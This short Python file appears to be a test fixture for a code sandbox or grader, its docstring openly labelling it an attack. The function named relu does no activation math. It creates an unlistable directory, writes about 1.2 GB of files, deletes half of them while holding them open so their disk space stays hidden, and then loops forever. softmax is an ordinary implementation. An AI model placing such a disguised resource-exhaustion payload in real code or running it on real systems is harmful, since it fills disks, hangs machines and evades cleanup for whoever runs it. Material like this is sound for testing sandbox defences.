"""An attack: writes files in a folder that nobody may list, and files without a name.

attacks: relu
"""
import os

import numpy as np


def relu(z):
    os.mkdir('d', 0o300)
    os.chdir('d')
    kept = []
    for number in range(20):
        kept.append(open(f'big{number}', 'wb'))
        if number % 2:
            os.remove(f'big{number}')
        for _ in range(60):
            kept[-1].write(b'x' * (1 << 20))
    while True:
        pass


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
